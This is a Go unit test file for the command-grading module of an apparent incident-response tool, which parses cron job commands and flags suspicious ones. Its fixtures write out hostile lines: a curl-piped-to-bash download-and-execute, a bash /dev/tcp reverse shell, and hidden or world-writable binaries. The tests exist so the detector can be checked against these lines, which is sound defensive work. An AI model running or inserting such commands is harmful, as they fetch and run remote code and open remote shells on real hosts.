package jobexec

import (
	"reflect"
	"testing"

	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
)

func TestPrograms(t *testing.T) {
	for cmd, want := range map[string][]string{
		"cd / && run-parts --report /etc/cron.hourly":                                                             nil,
		"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }":                            nil,
		"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi": {"/usr/lib/php/sessionclean"},
		"nice -n 19 ionice -c3 /usr/local/bin/backup --all":                                                       {"/usr/local/bin/backup"},
		"flock -n /run/lock/x.lock timeout 5m /opt/app/run.sh":                                                    {"/opt/app/run.sh"},
		"env FOO=1 /usr/bin/python3 /srv/app/job.py --x":                                                          {"/usr/bin/python3", "/srv/app/job.py"},
		"/bin/sh -c '/tmp/.x/y; /usr/bin/true'":                                                                   {"/bin/sh", "/tmp/.x/y", "/usr/bin/true"},
		"sudo -u www-data php /var/www/artisan schedule:run":                                                      {"/var/www/artisan"},
		"~/bin/sync.sh":                     {"/home/ops/bin/sync.sh"},
		"\"/root/.acme.sh\"/acme.sh --cron": {"/root/.acme.sh/acme.sh"},
		"$HOME/x $(id)":                     {"/home/ops/x"},
	} {
		if got := Programs(cmd, "/home/ops"); !reflect.DeepEqual(got, want) {
			t.Errorf("Programs(%q) = %q, want %q", cmd, got, want)
		}
	}
}

func TestToolPath(t *testing.T) {
	for p, want := range map[string]bool{
		"/home/ops/.local/bin/x":      true,
		"/root/.acme.sh/acme.sh":      true,
		"/home/ops/.cargo/bin/t":      true,
		"/home/ops/.cache/x":          false,
		"/home/ops/.local/.hidden/x":  false,
		"/usr/lib/.x/y":               false,
		"/home/ops/.config/systemd/x": false,
	} {
		if got := toolPath(p, ""); got != want {
			t.Errorf("toolPath(%q) = %v, want %v", p, got, want)
		}
	}
}

func TestGrade(t *testing.T) {
	root := testutil.RootFromString(t, "-- etc/passwd --\nroot:x:0:0::/root:/bin/sh\n-- usr/local/bin/job.sh mode=0755 --\n#!/bin/sh\nset -e\ncurl -s http://203.0.113.7/p | bash\n-- usr/local/bin/ww mode=0777 --\n#!/bin/sh\n")
	e := New(target.NewUnchecked(root, false), target.Discard{}, nil, nil)
	cases := []struct {
		cmd  string
		c    Context
		sev  model.Severity
		ind  string
		susp bool
	}{
		{"/usr/local/bin/job.sh >/dev/null", Context{User: "root"}, model.Critical, "download-exec", true},
		{"curl -s http://x/y | sh", Context{User: "ops"}, model.High, "download-exec", true},
		{"bash -i >& /dev/tcp/1.2.3.4/5 0>&1", Context{User: "ops"}, model.Critical, "reverse-shell.dev-tcp", true},
		{"/usr/lib/.x/agent", Context{User: "root"}, model.Medium, IndHidden, true},
		{"/usr/lib/.x/agent", Context{User: "root", Boot: true}, model.High, IndHidden, true},
		{"/usr/local/bin/ww", Context{User: "root"}, model.High, IndWritable, true},
		{"/home/ops/.local/bin/tool run", Context{User: "ops", Home: "/home/ops"}, 0, "", false},
		{"/usr/bin/find /tmp -mtime +7 -delete", Context{User: "root"}, 0, "", false},
	}
	for _, tc := range cases {
		v := e.Grade(tc.cmd, tc.c)
		if v.Suspicious != tc.susp || (tc.susp && (v.Severity != tc.sev || !v.Has(tc.ind))) {
			t.Errorf("Grade(%q, %+v) = %v %s %v, want %v %s %s", tc.cmd, tc.c, v.Suspicious, v.Severity, v.Indicators, tc.susp, tc.sev, tc.ind)
		}
	}
	if v := e.Grade("/usr/local/bin/job.sh", Context{User: "root"}); v.Script == nil || v.Script.Line != 3 {
		t.Errorf("followed script hit: %+v", v.Script)
	}
}
